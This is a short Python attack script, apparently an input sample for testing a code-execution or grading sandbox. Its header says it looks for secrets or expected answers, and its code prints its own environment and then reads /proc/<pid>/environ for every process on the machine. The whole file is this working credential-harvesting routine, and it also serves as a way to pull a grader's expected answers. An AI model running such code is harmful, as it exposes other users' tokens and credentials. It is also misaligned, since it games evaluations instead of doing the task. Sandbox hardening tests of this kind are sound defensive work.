# target: stdin
# attack: look for secrets or expected answers in the environment of every process
import os
print(dict(os.environ))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                print(pid, handle.read())
        except OSError as exc:
            print(pid, exc)
